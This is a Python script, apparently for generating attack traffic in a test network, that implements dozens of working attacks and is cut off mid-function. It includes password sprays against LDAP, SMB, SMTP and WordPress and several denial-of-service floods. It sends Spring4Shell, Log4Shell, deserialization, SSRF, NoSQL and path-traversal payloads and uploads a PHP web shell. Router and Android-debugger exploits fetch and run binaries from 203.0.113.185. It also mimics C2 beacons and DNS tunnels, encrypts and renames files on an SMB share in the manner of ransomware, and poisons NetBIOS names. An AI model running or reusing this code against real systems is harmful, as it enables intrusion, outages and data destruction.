#!/usr/bin/env python3
"""Attacks of the clinic for which Debian has no tool, as the same packets: published defaults of known tools, their pauses shortened. Each ends by itself.
attacks.py NAME ARGUMENTS..."""
import base64
import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "common"))
from wire import BROWSER, ask, checksum, connect, ip, paced, pause, quietly, secure, sender, tcp, together, until, word  # noqa: E402

# Scans

PROBES = {53: b"\0\1\1\0\0\1\0\0\0\0\0\0\7version\4bind\0\0\x10\0\3", 69: b"\0\1/etc/passwd\0octet\0", 111: os.urandom(4) + b"\0\0\0\0\0\0\0\2\0\1\x86\xa0" + b"\0" * 24, 123: b"\xe3" + b"\0" * 47,
          137: b"\x80\xf0\0\x10\0\1\0\0\0\0\0\0 CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\0\0!\0\1", 161: b"0&\2\1\1\4\6public\xa0\x19\2\4\0\0\0\1\2\1\0\2\1\0000\x0b0\t\6\5+\6\1\2\1\5\0", 177: b"\0\1\0\2\0\1\0",
          500: os.urandom(8) + b"\0" * 8 + b"\1\x10\2\0\0\0\0\0\0\0\0\x1c", 623: b"\6\0\xff\7\0\0\0\0\0\0\0\0\0\t \x18\xc8\x81\0\x38\x8e\4\xb5", 1434: b"\2", 1604: b"\x1e\0\1\x30\2\xfd\xa8\xe3" + b"\0" * 22,
          1900: b"M-SEARCH * HTTP/1.1\r\nHost:239.255.255.250:1900\r\nST:upnp:rootdevice\r\nMan:\"ssdp:discover\"\r\nMX:3\r\n\r\n", 5353: b"\0\0\0\0\0\1\0\0\0\0\0\0\t_services\7_dns-sd\4_udp\5local\0\0\x0c\0\1", 17185: b"\x1a\t\xfa\xba" + b"\0" * 40}


def udp_services(target, pause_after):
    """udp-proto-scanner's way: each service is asked in its own words, each twice."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for port, data in PROBES.items():
        for _ in range(2):
            quietly(s.sendto, data, (target, port))
            time.sleep(float(pause_after))


def odd_scan(source, target, count, rate):
    """SYNs with a full set of options, hop counts and windows by chance, ports in no order; a kernel that knows nothing of them resets what is answered."""
    s, ports = sender(), random.sample(range(1, 10_000), int(count))
    for i in paced(count, rate):
        options = random.choice((b"\2\4\5\xb4\4\2\x08\x0a" + os.urandom(4) + b"\0\0\0\0\1\3\3\7", b"\2\4\5\xb4", b"\2\4\2\x18\1\3\3\2\4\2\0\0", b""))
        s.sendto(ip(source, target, 6, tcp(source, target, random.randint(1025, 65000), ports[i], 2, options, window=random.choice((1024, 8192, 29200, 65535))), random.randint(38, 240)), (target, 0))


def banner_sweep(prefix, first, last, port, rate):
    """Who answers is asked for its banner, as zgrab does."""
    def one(i):
        with connect(f"{prefix}{i}", port, None, 1) as s:
            s.settimeout(1)
            s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n")
            s.recv(2000)
    numbers = list(range(int(first), int(last) + 1))
    random.shuffle(numbers)
    for i in paced(len(numbers), rate):
        threading.Thread(target=quietly, args=(one, numbers[i]), daemon=True).start()
    time.sleep(1.5)


# Passwords

def ldap_spray(target, count, each):
    """One password for many names; a connection carries a few binds."""
    s = None
    for i in range(int(count)):
        if i % int(each) == 0:
            s = connect(target, 389)
        name, secret = f"user{i}@clinic.example".encode(), b"Winter2026!"
        bind = bytes([2, 1, 3, 4, len(name)]) + name + bytes([0x80, len(secret)]) + secret
        op = bytes([2, 1, i % int(each) + 1, 0x60, len(bind)]) + bind
        s.sendall(bytes([0x30, len(op)]) + op)
        s.recv(200)
        time.sleep(random.uniform(0.15, 0.4))


def mongo(target, count):
    for i in range(int(count)):
        with connect(target, 27017) as s:
            for body in (b"\x10hello\0\1\0\0\0\2$db\0\6\0\0\0admin\0", b"\x10saslStart\0\1\0\0\0\2mechanism\0\x0e\0\0\0SCRAM-SHA-256\0\5payload\0" + struct.pack("<iB", 44, 0) + b"n,,n=admin,r=" + os.urandom(15).hex().encode() + b"x\2$db\0\6\0\0\0admin\0"):
                doc = struct.pack("<i", len(body) + 5) + body + b"\0"
                s.sendall(struct.pack("<iiii", 21 + len(doc), i + 1, 0, 2013) + b"\0\0\0\0\0" + doc)
                s.recv(2000)
        time.sleep(0.2)


def amqp(target, count):
    for i in range(int(count)):
        with connect(target, 5672) as s:
            s.sendall(b"AMQP\0\0\t\1")
            s.recv(1000)
            secret = b"\0guest\0" + word(i).encode()
            body = struct.pack("!HHI", 10, 11, 0) + b"\5PLAIN" + struct.pack("!I", len(secret)) + secret + b"\5en_US"
            s.sendall(struct.pack("!BHI", 1, 0, len(body)) + body + b"\xce")
            s.recv(1000)
        time.sleep(0.25)


def posts(target, path, kind, count, rate, maker, stay=False):
    s = connect(target, 80) if stay else None
    for i in paced(count, rate):
        quietly(ask, target, 80, "POST", path, [f"Content-Type: {kind}"], maker(i), None, s)


def graphql(target, count, each):
    """Log-ins as aliases of one question, several a request."""
    posts(target, "/graphql", "application/json", count, 2.5, lambda i: json.dumps({"query": "mutation{" + " ".join(f'a{k}:login(user:"admin",password:"{word(i * int(each) + k)}"){{token}}' for k in range(int(each))) + "}"}).encode())


def json_stuffing(target, count):
    posts(target, "/api/v2/auth", "application/json", count, 3, lambda i: json.dumps({"email": f"{word(i)}@mail.example", "password": word(i * 7)}).encode())


def one_time(target, count):
    """Six digits, one after the other, over one connection."""
    posts(target, "/verify", "application/x-www-form-urlencoded", count, 12, lambda i: f"session=8f1c33&code={482000 + i}".encode(), True)


def multicall(target, count, each):
    """WordPress' system.multicall: many passwords in one request."""
    call = "<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name><value><array><data><value><array><data><value><string>admin</string></value><value><string>%s</string></value></data></array></value></data></array></value></member></struct></value>"
    posts(target, "/xmlrpc.php", "text/xml", count, 1, lambda i: ("<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>" + "".join(call % word(i * int(each) + k) for k in range(int(each))) + "</data></array></value></param></params></methodCall>").encode())


def smtp_auth(target, count):
    """AUTH LOGIN, three tries a connection."""
    for i in range(int(count)):
        try:
            with connect(target, 25) as s:
                s.recv(500)
                s.sendall(b"EHLO x\r\n")
                s.recv(500)
                for k in range(3):
                    for line in (b"AUTH LOGIN", base64.b64encode(b"info@clinic.example"), base64.b64encode(word(i * 3 + k).encode())):
                        s.sendall(line + b"\r\n")
                        s.recv(500)
        except OSError:
            pass
        time.sleep(0.4)


def smb_spray(target, count):
    """impacket's log-in, a name each."""
    from impacket.smbconnection import SMBConnection
    for i in range(int(count)):
        try:
            SMBConnection(target, target, timeout=4).login(f"nurse{i}", "Spring2026", "CLINIC")
        except Exception as e:  # every password is refused: impacket has its own exceptions
            print(e)
        time.sleep(0.3)


# Floods

def stomp(target, port, threads, seconds):
    """Mirai's TCP STOMP: a real connection, then data packets of 768 bytes with numbers of its own."""
    def one():
        s = connect(target, port)
        here, there = s.getsockname(), s.getpeername()
        raw = sender()
        for _ in until(seconds):
            raw.sendto(ip(here[0], target, 6, tcp(here[0], target, here[1], there[1], 0x18, data=os.urandom(768))), (target, 0))
            time.sleep(0.006)
    together(*[one] * int(threads))


def vse(target, rate, seconds):
    """Valve's server query from one bot."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in paced(float(rate) * float(seconds), rate):
        quietly(s.sendto, b"\xff\xff\xff\xffTSource Engine Query\0", (target, 27015))


def black_nurse(source, target, rate, seconds):
    """ICMP type 3, code 3, each with the start of a packet that was never sent."""
    s = sender()
    for _ in paced(float(rate) * float(seconds), rate):
        body = b"\0\0\0\0" + ip(target, source, 17, struct.pack("!4H", random.randint(1024, 65000), 53, 8, 0))
        s.sendto(ip(source, target, 1, struct.pack("!BBH", 3, 3, checksum(b"\3\3\0\0" + body)) + body), (target, 0))


def syn_ack(target, count, rate):
    """What open servers answer to SYNs in the victim's name: three SYN-ACKs each, from port 443, 22 or 179 (TCP amplification)."""
    s = sender()
    for i in paced(count, rate):
        source = f"{random.randint(20, 170)}.{random.randint(1, 250)}.{random.randint(1, 250)}.{random.randint(1, 250)}"
        port, mine = random.choice((443, 22, 179)), random.randint(20000, 60000)
        for _ in range(3):
            s.sendto(ip(source, target, 6, tcp(source, target, port, mine, 0x12, b"\2\4\5\xb4"), random.randint(40, 60)), (target, 0))


def reflected(target, port, rate, seconds, size, sources):
    s, many = sender(), [f"{random.randint(20, 170)}.{random.randint(1, 250)}.{random.randint(1, 250)}.{random.randint(1, 250)}" for _ in range(int(sources))]
    for _ in paced(float(rate) * float(seconds), rate):
        data = b"\0\1\x03\xf2\0\1\0" + os.urandom(int(size))
        s.sendto(ip(random.choice(many), target, 17, struct.pack("!4H", int(port), random.randint(1024, 65000), 8 + len(data), 0) + data), (target, 0))


def h2_frame(kind, flags, stream, data=b""):
    return struct.pack("!I", len(data))[1:] + struct.pack("!BBI", kind, flags, stream) + data


H2_START = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0)


def continuation(target, port, threads, seconds):
    """Headers that never end (CONTINUATION flood, 2024): a server that counts hangs up, and the next connection comes."""
    def one():
        for _ in until(seconds):
            try:
                with secure(target, port, protocols=("h2",)) as s:
                    s.sendall(H2_START + h2_frame(1, 0, 1, b"\x82\x86\x84\x41\1x"))
                    for i in range(400):
                        s.sendall(h2_frame(9, 0, 1, b"\0\4x%03d\x7e" % i + b"a" * 126))
            except OSError:
                pass
    together(*[one] * int(threads))


def monlist(target, rate, seconds):
    """Our own time server asked for its list of clients, in somebody's name."""
    s = sender()
    for _ in paced(float(rate) * float(seconds), rate):
        data = b"\x17\0\3\x2a" + b"\0" * 4
        s.sendto(ip("203.0.113.5", target, 17, struct.pack("!4H", 40123, 123, 8 + len(data), 0) + data), (target, 0))


def searches(count, target, rate, seconds):
    """Bots search for something else each time, with a browser's headers."""
    def one(source):
        for i in paced(float(rate) * float(seconds), rate):
            try:
                with connect(target, 80, source) as s:
                    s.sendall(f"GET /search?q={os.urandom(5).hex()}&page={i} HTTP/1.1\r\nHost: clinic.example\r\nUser-Agent: {BROWSER}\r\nAccept: text/html\r\nAccept-Language: de\r\nConnection: close\r\n\r\n".encode())
                    s.recv(4096)
            except OSError:
                pass
    together(*(lambda a=f"192.0.2.{101 + i}": one(a) for i in range(int(count))))


# Slow

def hold(target, port, count, seconds, first=b"", drip=b"", every=8.0, tls=False, reads=False):
    held = []
    for _ in range(int(count)):
        try:
            s = secure(target, port) if tls else connect(target, port)
            if reads:
                s.recv(2000)
            if first:
                s.sendall(first)
            held.append(s)
        except OSError:
            pass
        time.sleep(0.08)
    for end in until(float(seconds) - 0.08 * int(count)):
        for s in held:
            if drip:
                quietly(s.sendall, drip)
        pause(every, 20, end)


def slow_tls_body(target, count, seconds):
    hold(target, 443, count, seconds, f"POST /signin HTTP/1.1\r\nHost: {target}\r\nUser-Agent: {BROWSER}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4096\r\n\r\n".encode(), b"a", 7, True)


def slow_imap(target, count, seconds):
    hold(target, 143, count, seconds, reads=True)


def slow_mysql(target, count, seconds):
    """The server hangs up after ten seconds: then each connects again."""
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end - 5:
        hold(target, 3306, count, min(16, end - time.monotonic()), reads=True)


def slow_h2(target, port, count, seconds):
    """An HTTP/2 connection each with a request whose headers do not end."""
    held = []
    for _ in range(int(count)):
        s = secure(target, port, protocols=("h2",))
        s.sendall(H2_START + h2_frame(1, 0, 1, b"\x82\x86\x84"))
        held.append(s)
        time.sleep(0.1)
    time.sleep(float(seconds) - 0.1 * int(count))


# Web

def requests(target, port, items, wait):
    for method, path, headers, body in items:
        quietly(ask, target, port, method, path, headers, body)
        time.sleep(random.uniform(0.5, 1.5) * wait)


def spring(target):
    """CVE-2022-22965 by query, by form, and the shell's file asked for after it."""
    form = "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar"
    kind = ["Content-Type: application/x-www-form-urlencoded"]
    requests(target, 80, [("GET", "/profile?class.module.classLoader.URLs%5B0%5D=0", (), b""), ("POST", "/profile", kind, form.encode()), ("GET", "/tomcatwar.jsp?pwd=j&cmd=id", (), b"")] * 2, 1)


def log4(target):
    """CVE-2021-44228 with nested look-ups, in headers, bodies and encoded paths."""
    names = ("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.185:1389/a}", "${${lower:j}${upper:n}${lower:d}i:${lower:rmi}://203.0.113.185/x}", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.185/b}",
             "${jnd${123%25ff:-${123%25ff:-i:}}ldap://203.0.113.185/c}")
    items = [("GET", "/", [f"X-Api-Version: {names[0]}"], b""), ("GET", "/", [f"Referer: {names[1]}"], b""), ("POST", "/api/login", ["Content-Type: application/json"], json.dumps({"username": names[2], "password": "x"}).encode()),
             ("GET", "/search?q=" + urllib.parse.quote(names[0], safe=""), (), b""), ("GET", "/search?q=" + urllib.parse.quote(urllib.parse.quote(names[1], safe=""), safe=""), (), b""), ("GET", "/", [f"Cookie: id={names[3]}"], b"")]
    requests(target, 80, items, 1)


def deserial(target):
    """Serialised objects of Java, PHP, .NET and Python where a value should stand."""
    java = base64.b64encode(b"\xac\xed\0\5sr\0\x11java.util.HashSet\xbaD\x85\x95\x96\xb8\xb74\3\0\0xpw\x0c\0\0\0\2?@\0\0\0\0\0\1sr\0*org.apache.commons.collections.map.LazyMap" + os.urandom(200)).decode()
    items = [("GET", "/profile", [f"Cookie: session={java}"], b""), ("POST", "/api/login", ["Content-Type: application/x-java-serialized-object"], base64.b64decode(java)),
             ("POST", "/profile", ["Content-Type: application/x-www-form-urlencoded"], b"data=" + urllib.parse.quote('O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\0*\0socket";O:29:"Monolog\\Handler\\BufferHandler":7:{s:10:"\0*\0handler";r:2;}}').encode()),
             ("POST", "/profile", ["Content-Type: application/json"], b'{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.185:1099/Exploit","autoCommit":true}'),
             ("POST", "/profile", ["Content-Type: application/json"], b'{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$values":["cmd","/c calc"]}}')]
    requests(target, 80, items, 1)


def ssrf(target):
    urls = ("http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/", "gopher://127.0.0.1:6379/_%2a1%0d%0a%248%0d%0aflushall%0d%0a", "file:///etc/passwd", "http://[::ffff:169.254.169.254]/latest/user-data", "dict://127.0.0.1:11211/stats",
            "http://metadata.google.internal/computeMetadata/v1/instance/", "http://2852039166/latest/meta-data/", "http://localhost:9200/_cat/indices")
    requests(target, 80, [("GET", "/fetch?url=" + urllib.parse.quote(u, safe=""), (), b"") for u in urls], 1)


def nosql(target):
    form, kind = ["Content-Type: application/x-www-form-urlencoded"], ["Content-Type: application/json"]
    items = [("POST", "/api/login", kind, b'{"username":{"$ne":null},"password":{"$ne":null}}'), ("POST", "/api/login", kind, b'{"username":"admin","password":{"$regex":"^a.*"}}'), ("POST", "/api/login", form, b"username[$ne]=x&password[$gt]="),
             ("GET", "/api/find?name[$regex]=.*&limit=100", (), b""), ("GET", "/api/find?q=%7B%22%24where%22%3A%22sleep(5000)%22%7D", (), b""), ("POST", "/api/find", kind, b'{"$where":"this.password.length > 0"}')]
    requests(target, 80, items * 2, 0.8)


def traversal(target):
    """Encodings that servers have fallen for: overlong UTF-8, twice encoded, parameters in the path, backslashes."""
    paths = ("/static/..%c0%af..%c0%af..%c0%afetc/passwd", "/static/%252e%252e/%252e%252e/%252e%252e/etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/app/..;/..;/manager/html", "/download?file=..%5c..%5c..%5cwindows%5cwin.ini",
             "/download?file=....//....//....//etc/shadow", "/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd", "/view?page=php://filter/convert.base64-encode/resource=index", "/view?page=/proc/self/environ", "/static//..//..//..//etc/hosts%00.png")
    requests(target, 80, [("GET", p, (), b"") for p in paths], 1)


def web_shell(target):
    """A program as a picture of oneself, then commands through it."""
    part = b'--x7\r\nContent-Disposition: form-data; name="avatar"; filename="avatar.php"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\n<?php @eval($_POST["z"]); system($_GET["c"]); ?>\r\n--x7--\r\n'
    items = [("POST", "/upload.php", ["Content-Type: multipart/form-data; boundary=x7"], part)]
    items += [("GET", "/uploads/avatar.php?c=" + urllib.parse.quote(c), (), b"") for c in ("id", "uname -a", "cat /etc/passwd", "ls -la /var/www", "netstat -antp")]
    requests(target, 80, items, 2)


def appliances(target):
    """What botnets ask every address for: holes of routers, cameras, firewalls, with a loader."""
    load = "cd+/tmp;rm+-rf+*;wget+http://203.0.113.185/b/mips;chmod+777+mips;./mips"
    items = [("GET", f"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$({load})", (), b""), ("POST", "/GponForm/diag_Form?images/", (), f"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`{load}`&ipv=0".encode()),
             ("GET", f"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd={load}&curpath=/&currentsetting.htm=1", (), b""), ("POST", "/HNAP1/", ["SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://203.0.113.185/b/mips && sh mips`"], b"<x/>"),
             ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.185/b/arm;sh+/tmp/arm", (), b""), ("POST", "/tmUnblock.cgi", (), f"ttcp_ip=-h+`{load}`&action=&ttcp_num=2".encode()), ("POST", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp", (), b"command=list+auth+user+admin"),
             ("GET", "/vpn/../vpns/cfg/smb.conf", (), b""), ("GET", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/", (), b"")]
    requests(target, 80, items, 1)


def graph_probe(target):
    """What a GraphQL interface offers, its hidden fields guessed."""
    kind = ["Content-Type: application/json"]
    items = [("POST", "/graphql", kind, b'{"query":"query IntrospectionQuery{__schema{queryType{name}mutationType{name}types{kind name fields(includeDeprecated:true){name args{name type{name}}}}directives{name locations}}}"}')]
    items += [("POST", "/graphql", kind, json.dumps({"query": "{%s{id email passwordHash isAdmin}}" % n}).encode()) for n in "users allUsers admin admins me accounts user patients tokens secrets apiKeys sessions config debug".split()]
    requests(target, 80, items, 0.5)


# Exploits by other protocols

def debugger(target):
    """An Android debugger that is open to all: a shell command, as worms give it."""
    with connect(target, 5555) as s:
        def message(code, a, b, data):
            s.sendall(struct.pack("<6I", code, a, b, len(data), sum(data), code ^ 0xFFFFFFFF) + data)
            time.sleep(0.3)
            s.recv(2000)
        message(0x4E584E43, 0x01000000, 4096, b"host::\0")
        message(0x4E45504F, 1, 0, b"shell:cd /data/local/tmp/; busybox wget http://203.0.113.185/b/arm -O -> arm; sh arm; rm arm\0")


def activemq(target):
    """CVE-2023-46604: a class to be made from a file far away."""
    name, url = b"org.springframework.context.support.ClassPathXmlApplicationContext", b"http://203.0.113.185/poc.xml"
    body = b"\x1f" + b"\0" * 8 + b"\1\1" + struct.pack("!H", len(name)) + name + b"\1" + struct.pack("!H", len(url)) + url
    for _ in range(2):
        with connect(target, 61616) as s:
            s.recv(1000)
            s.sendall(struct.pack("!I", len(body)) + body)
            time.sleep(1)


def elastic(target):
    """Groovy that leaves its sandbox (CVE-2015-1427), and its older brother in MVEL."""
    script = 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("wget http://203.0.113.185/b/x86 -O /tmp/x").getText()'
    requests(target, 9200, [("POST", "/_search?pretty", ["Content-Type: application/json"], json.dumps({"size": 1, "script_fields": {"x": {"lang": "groovy", "script": script}}}).encode())] * 3, 1)


# Masters

def profile(target, port, every, jitter, seconds, kind, name=""):
    """GETs and POSTs as the default profiles of known frameworks make them, a connection each."""
    me, tls = base64.b64encode(os.urandom(96)).decode(), name if int(port) == 443 else None
    for n, end in enumerate(until(seconds)):
        if kind == "cobalt":
            got = quietly(ask, target, port, "GET", "/ga.js", [f"Cookie: {me}"], b"", tls) or b""
            if len(got.split(b"\r\n\r\n")[-1]) > 30:
                quietly(ask, target, port, "POST", f"/submit.php?id={18233}", ["Content-Type: application/octet-stream"], os.urandom(random.randint(80, 1800)), tls)
        elif kind == "sliver":
            path = "/" + "/".join(random.choices("oauth php db samples assets rpc auth scripts js umd dist vendor".split(), k=random.randint(1, 3)))
            if n % 6 == 5:
                quietly(ask, target, port, "POST", f"{path}/{random.choice(('login', 'api', 'rest'))}.php?{os.urandom(1).hex()[0]}={os.urandom(5).hex()}", [f"Cookie: PHPSESSID={os.urandom(16).hex()}"], base64.b64encode(os.urandom(random.randint(300, 3000))), tls)
            else:
                quietly(ask, target, port, "GET", f"{path}/{random.choice(('jquery.min', 'app', 'bootstrap', 'route'))}.js?{os.urandom(1).hex()[0]}={os.urandom(random.randint(4, 9)).hex()}", [f"Cookie: PHPSESSID={os.urandom(16).hex()}"], b"", tls)
        elif kind == "mythic":
            quietly(ask, target, port, "POST", "/data", ["Content-Type: text/plain"], base64.b64encode(os.urandom(random.choice((132, 132, 132, 132, 480, 1900)))), tls)
        elif kind == "havoc":
            quietly(ask, target, port, "POST", random.choice(("/index.php", "/login", "/helloworld.html")), ["Content-Type: */*"], os.urandom(random.choice((44, 44, 44, 44, 44, 900))), tls)
        pause(every, jitter, end)


def one_h2(target, every, jitter, seconds):
    """Merlin's way: POSTs over one HTTP/2 connection, padded by chance."""
    import h2.connection
    c = h2.connection.H2Connection()
    s = secure(target, 8443, "static.cdn.example", ("h2",))
    s.settimeout(2)
    c.initiate_connection()
    for end in until(seconds):
        stream, body = c.get_next_available_stream_id(), os.urandom(random.randint(400, 900))
        c.send_headers(stream, [(":method", "POST"), (":path", "/"), (":scheme", "https"), (":authority", "static.cdn.example"), ("user-agent", BROWSER), ("content-type", "application/octet-stream")])
        c.send_data(stream, body, end_stream=True)
        s.sendall(c.data_to_send())
        try:
            c.receive_data(s.recv(16384))
            s.sendall(c.data_to_send())
        except TimeoutError:
            pass
        pause(every, jitter, end)


def doh(target, every, jitter, seconds):
    """Names asked by HTTPS, a fresh one each time, a connection each."""
    for end in until(seconds):
        question = os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + bytes([24]) + os.urandom(12).hex().encode() + b"\6update\7example\0\0\x10\0\1"
        quietly(ask, target, 443, "POST", "/dns-query", ["Accept: application/dns-message", "Content-Type: application/dns-message"], question, "dns.example")
        pause(every, jitter, end)


def chisel(target, seconds):
    """A WebSocket that stays: the far end asks through it, what lies behind answers; a keep-alive now and then."""
    s = connect(target, 8888)
    s.sendall(f"GET / HTTP/1.1\r\nHost: {target}:8888\r\nUser-Agent: Go-http-client/1.1\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\nSec-WebSocket-Protocol: chisel-v3\r\nSec-WebSocket-Version: 13\r\nUpgrade: websocket\r\n\r\n".encode())
    s.recv(2000)

    def send(size):
        s.sendall(struct.pack("!BBH", 0x82, 0xFE, size) + os.urandom(4 + size))
    for size in (40, 900, 560, 48, 300):
        send(size)
        time.sleep(0.05)
    s.settimeout(1)
    last = time.monotonic()
    for _ in until(seconds):
        try:
            if s.recv(4096):
                time.sleep(0.05)
                send(random.randint(400, 6000))
        except TimeoutError:
            if time.monotonic() - last > 10:
                send(32)
                last = time.monotonic()


def frp(target, every, seconds):
    """A relay's client: a control connection by TLS with heartbeats, further connections as the relay wants them."""
    control = secure(target, 7000)
    control.sendall(os.urandom(220))
    control.recv(4096)
    for n, end in enumerate(until(seconds)):
        control.sendall(os.urandom(31))
        got = control.recv(4096)
        if len(got) > 40:
            with secure(target, 7000) as work:
                work.sendall(os.urandom(70))
                work.recv(4096)
                work.sendall(os.urandom(random.randint(1000, 9000)))
                time.sleep(0.5)
        pause(every, 3, end)


def hoax(target, seconds):
    """A shell by polling: a page asked for every 0.8 s, what a command brought as a POST."""
    me = os.urandom(4).hex()
    for end in until(seconds):
        got = quietly(ask, target, 8080, "GET", f"/hoax/{me}", [f"X-c7f1-4d2e: {os.urandom(6).hex()}"]) or b""
        if got.split(b"\r\n\r\n")[-1]:
            quietly(ask, target, 8080, "POST", f"/hoax/{me}/out", (), os.urandom(random.randint(300, 2500)).hex().encode())
        pause(0.8, 5, end)


def question(target, name, kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1), (target, 53))
    quietly(s.recv, 2000)


def names_cobalt(target, every, jitter, seconds):
    """The same short name until there is work; then what was found in labels of hexadecimals, one after the other."""
    me = os.urandom(4).hex()
    for n, end in enumerate(until(seconds)):
        question(target, f"{me}.ns1.metrics.example", 1)
        if n % 7 == 6:
            counter = os.urandom(3).hex()
            for k in range(random.randint(1, 4)):
                question(target, f"api.{k}{counter}.{me}.ns1.metrics.example", 16)
            for k in range(random.randint(6, 14)):
                question(target, f"post.1{os.urandom(27).hex()}.{os.urandom(20).hex()}.{k}{counter}.{me}.ns1.metrics.example", 1)
        pause(every, jitter, end)


def names_sliver(target, every, seconds):
    """Two questions each poll, all letters and digits, upper and lower."""
    letters = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    for n, end in enumerate(until(seconds)):
        for _ in range(2 if n % 8 else 9):
            question(target, "".join(random.choices(letters, k=random.randint(24, 60))) + ".1.cloudsync.example", random.choice((1, 1, 16)))
        pause(every, 25, end)


def names_six(target, seconds):
    """Orders in IPv6 addresses."""
    for end in until(seconds):
        question(target, f"{os.urandom(8).hex()}.{os.urandom(3).hex()}.img.example", 28)
        pause(0.9, 40, end)


# Programs that spread, and those who lock files

def telnet_worm(count, rate):
    s = sender()
    for i in paced(count, rate):
        target = f"{random.randint(20, 170)}.{random.randint(1, 250)}.{random.randint(1, 250)}.{random.randint(1, 250)}"
        source = "172.22.40.31"
        s.sendto(ip(source, target, 6, tcp(source, target, random.randint(1025, 65000), 23 if i % 10 else 2323, 2), 64), (target, 0))


def lock_files(target, count):
    """Each file of a share read, written over and given a new name."""
    from impacket.smbconnection import SMBConnection
    c = SMBConnection(target, target, sess_port=445, timeout=6)
    c.login("", "")
    for i in range(int(count)):
        tree = c.connectTree("papers")
        handle = c.openFile(tree, f"doc{i}.txt")
        size = len(c.readFile(tree, handle))
        c.writeFile(tree, handle, os.urandom(max(size, 4000)))
        c.closeFile(tree, handle)
        c.rename("papers", f"doc{i}.txt", f"doc{i}.txt.locked")
        time.sleep(0.05)
    c.putFile("papers", "READ_ME_NOW.txt", __import__("io").BytesIO(b"your files ...").read)


# Uploads

def by_mail(target, count, size):
    """Archives sent as attachments to a mail server outside."""
    for i in range(int(count)):
        with connect(target, 25, None, 10) as s:
            s.recv(300)
            for line in (b"EHLO desk", b"MAIL FROM:<a@clinic.example>", b"RCPT TO:<b@mail.example>", b"DATA"):
                s.sendall(line + b"\r\n")
                s.recv(300)
            body = base64.encodebytes(os.urandom(int(size)))
            s.sendall(b"Subject: scans\r\nContent-Type: multipart/mixed; boundary=q\r\n\r\n--q\r\nContent-Type: application/zip; name=a.zip\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body.replace(b"\n", b"\r\n") + b"--q--\r\n.\r\n")
            s.recv(300)
        time.sleep(2)


def by_tftp(target, size):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"\0\2backup.tgz\0octet\0", (target, 69))
    s.recv(100)
    for i in range(int(size) // 512):
        s.sendto(struct.pack("!HH", 3, (i + 1) & 0xFFFF) + os.urandom(512), (target, 69))
        quietly(s.recv, 100)


def by_udp(target, size):
    """Pieces by UDP to port 443, as if it were QUIC."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in paced(int(size) // 1200, 1200):
        quietly(s.sendto, b"\x45" + os.urandom(1199), (target, 443))


def names_of_lan(seconds):
    """Answers every NetBIOS question of the network with its own address, as Responder does."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", 137))
    s.settimeout(0.5)
    for _ in until(seconds):
        try:
            data, address = s.recvfrom(500)
        except TimeoutError:
            continue
        if data[2] & 0x80 == 0:
            s.sendto(data[:2] + b"\x85\0\0\0\0\1\0\0\0\0" + data[12:46] + b"\0 \0\1\0\0\0\xa5\0\6\0\0" + socket.inet_aton("172.22.40.199"), address)


def asks_lan(seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    for end in until(seconds):
        name = random.choice(("FILESRV", "WPAD", "PRNTER", "FILLESRV")).ljust(15).encode() + b"\0"
